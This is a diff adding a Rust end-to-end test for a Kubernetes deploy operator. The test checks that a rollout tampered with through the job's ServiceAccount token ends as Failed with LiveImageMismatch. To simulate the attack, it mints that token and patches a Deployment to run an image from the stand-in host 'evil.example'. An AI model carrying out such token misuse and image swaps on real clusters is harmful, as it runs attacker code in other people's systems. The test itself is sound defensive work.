@@ -238,6 +238,71 @@ fn data(j: &AgentJob) -> Value {
         .unwrap()
 }
 
+/// Security: a rollout changed through the job's identity while the deploy runs (someone who
+/// minted a token for the job's ServiceAccount) is not reported as success: the operator
+/// compares the live images with the ones the job was to roll out.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_rollout_tampered_through_the_jobs_identity_does_not_end_succeeded() {
+    let client = common::client().await;
+    common::ensure_crds(&client).await;
+    let ns = common::namespace(&client, "e2e-deploy-tamper").await;
+    let app_ns = common::namespace(&client, "e2e-shop-tamper").await;
+    app(&client, &app_ns, "api", "v1").await;
+    app(&client, &app_ns, "rpc", "v1").await;
+    let mut smoke = smoke_server(false).await;
+    let dir = tempfile::tempdir().unwrap();
+    let _op = operator(
+        &ns,
+        dir.path(),
+        json!([{
+            "name": "staging", "namespace": app_ns, "services": services(),
+            "rolloutTimeoutSeconds": 60,
+            "smokeTest": {"http": [{"url": format!("{}/{{service}}/health", smoke.served.url()),
+                                     "bodyContains": "\"ok\"", "timeoutSeconds": 60, "retries": 1}]},
+        }]),
+    );
+    let jobs: Api<AgentJob> = Api::namespaced(client.clone(), &ns);
+    jobs.create(
+        &PostParams::default(),
+        &deploy_job("to-v2", "staging", "v2", json!({})),
+    )
+    .await
+    .unwrap();
+    // api is rolled out to v2 and its smoke test waits: now someone wears the job's identity.
+    assert_eq!(smoke.hits.recv().await.as_deref(), Some("api"));
+    let sa = devagents::controller::pod::service_account_name("to-v2");
+    let token = common::token(&client, &ns, &sa, "https://kubernetes.default.svc").await;
+    let intruder: Api<Deployment> = Api::namespaced(common::token_client(&token).await, &app_ns);
+    intruder
+        .patch(
+            "api",
+            &PatchParams::default(),
+            &Patch::Strategic(json!({"spec": {"template": {"spec": {"containers": [
+                {"name": "api", "image": "evil.example/api:latest"}]}}}})),
+        )
+        .await
+        .expect("the job's identity may patch api during the deploy");
+    smoke.gate.send(true).unwrap();
+
+    let j = common::wait_for(&jobs, "to-v2", 120, "finished", is_terminal).await;
+    let st = j.status.unwrap();
+    assert_eq!(
+        (st.phase, st.reason.as_deref()),
+        (Some(Phase::Failed), Some("LiveImageMismatch")),
+        "{:?}",
+        st.message
+    );
+    let msg = st.message.unwrap_or_default();
+    assert!(
+        msg.contains(&format!(
+            "api runs evil.example/api:latest, not {REGISTRY}/api:v2"
+        )),
+        "{msg}"
+    );
+    common::delete_namespace(&client, &ns).await;
+    common::delete_namespace(&client, &app_ns).await;
+}
+
 /// Acceptance 1, 2 and 5: v1 → v2 on two services; the job's identity may patch Deployments in
 /// the environment's namespace during the job and nothing elsewhere, nothing afterwards; a
 /// broken v3 stalls, ProgressDeadlineExceeded rolls it back, the job ends RolledBack.
